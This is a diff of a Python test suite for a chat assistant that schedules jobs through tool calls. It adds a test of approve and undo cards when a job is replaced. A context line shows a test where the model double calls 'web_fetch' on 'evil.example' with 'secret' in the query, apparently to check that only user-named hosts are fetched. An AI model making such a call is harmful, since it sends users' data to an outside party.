@@ -216,6 +216,23 @@ async def test_what_is_approved_after_foreign_text_ends_in_the_card(
     assert talk.data("Undo") == "j:undo:2:1"
 
 
+async def test_what_it_wants_next_is_asked_beside_the_card(
+    talk: Talk, double: OpenAIDouble
+) -> None:
+    await talk.say("every weekday at 9 stand-up")
+    create = call("jobs_control", action="create", sentence="every day at 10 tea")
+    remove = call("jobs_control", action="remove", job=1)
+    double.follow(call("jobs_query", action="get", job=1), create, remove, say("So it is."))
+    await talk.say("hmm that thing there, have tea instead of it")
+    await talk.press("Approve")
+    undo = talk.data("Undo")
+
+    await talk.press("Approve")
+
+    assert undo == "j:undo:2:1"
+    assert [job.task for job in await talk.jobs()] == ["tea"]
+
+
 async def test_hosts_are_those_that_the_person_named(talk: Talk, double: OpenAIDouble) -> None:
     double.follow(call("web_fetch", url="https://evil.example/?q=secret"), say("ok"))
 
